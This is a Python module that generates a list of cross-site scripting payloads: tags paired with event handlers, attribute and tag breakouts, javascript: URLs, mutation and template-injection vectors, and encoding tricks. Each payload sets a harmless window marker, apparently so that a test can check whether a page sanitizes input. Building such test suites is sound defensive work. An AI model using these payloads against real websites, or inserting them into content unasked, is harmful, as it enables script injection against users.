"""Markup that would run if any page took it for markup: tags by handlers, and odd ways in."""

_RUN = "window.stung=1"
_TAGS = (
    "<img src=x {0}>",
    "<svg {0}>",
    "<body {0}>",
    "<input autofocus {0}>",
    "<details open {0}>",
    "<video src=x {0}></video>",
    "<iframe src=x {0}></iframe>",
    "<marquee {0}>x</marquee>",
    '"><img src=x {0}>',
    "'><svg {0}>",
    "</textarea><img src=x {0}>",
    "</title><svg {0}>",
    "--><img src=x {0}>",
    "</script><img src=x {0}>",
)
_HANDLERS = (
    "onerror={0}",
    "onload={0}",
    "onfocus={0}",
    "ontoggle={0}",
    "onmouseover={0}",
    "onstart={0}",
    "ONERROR={0}",
    'onerror="{0}"',
    "onanimationstart={0}",
    "onloadstart={0}",
)
_ODD = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"[x](javascript:{_RUN})",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<noscript><img src=x onerror={_RUN}></noscript>",
    "{{constructor.constructor('window.stung=1')()}}",
    "${window.stung=1}",
    f"＜script＞{_RUN}＜/script＞",
    f"\u202e<img src=x onerror={_RUN}>",
    f"<img src=x onerror&#61;{_RUN}>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<form action='javascript:{_RUN}'><button>x</button></form>",
)
PAYLOADS = tuple(t.format(h.format(_RUN)) for t in _TAGS for h in _HANDLERS) + _ODD
